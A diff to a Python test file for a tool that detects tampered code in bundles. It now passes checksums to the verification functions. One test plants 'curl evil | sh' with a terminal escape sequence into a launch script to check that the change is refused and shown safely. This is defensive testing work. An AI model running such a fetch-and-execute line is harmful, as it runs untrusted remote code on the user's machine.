@@ -6,6 +6,7 @@ import pytest
 
 from cvbundle.archive.pack import archive_bundle
 from cvbundle.bundle.bundle import Bundle
+from cvbundle.bundle.verify import read_sums, sums_of
 from cvbundle.compiler.build import Compiled
 from cvbundle.execution.foreign_code import ForeignCode, foreign_code, require_own_code
 from cvbundle.execution.launch import RunOptions, plan_launch
@@ -21,8 +22,8 @@ def _change(path: Path, content: bytes) -> None:
 
 
 def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> None:
-    assert foreign_code(compiled.bundle) == []
-    require_own_code(compiled.bundle)
+    assert foreign_code(compiled.bundle, read_sums(compiled.bundle)) == []
+    require_own_code(compiled.bundle, read_sums(compiled.bundle))
 
 
 def test_foreign_code_is_shown_in_excerpt(compiled: Compiled) -> None:
@@ -31,12 +32,12 @@ def test_foreign_code_is_shown_in_excerpt(compiled: Compiled) -> None:
     _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
     _change(bundle.folder / "code/long.py", b"x = 1\n" * 99)
     with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
-        require_own_code(bundle)
+        require_own_code(bundle, sums_of(bundle.folder, {}))
     assert len(refused.value.details) == 21
     assert refused.value.details[-1].endswith("more lines")
     (bundle.folder / "code/long.py").unlink()
     with pytest.raises(ForeignCode) as refused:
-        require_own_code(bundle)
+        require_own_code(bundle, sums_of(bundle.folder, {}))
     assert "-set -euo pipefail" in refused.value.details
     # What a terminal would obey is not passed on.
     assert "+curl evil | sh\\x1b[2J" in refused.value.details
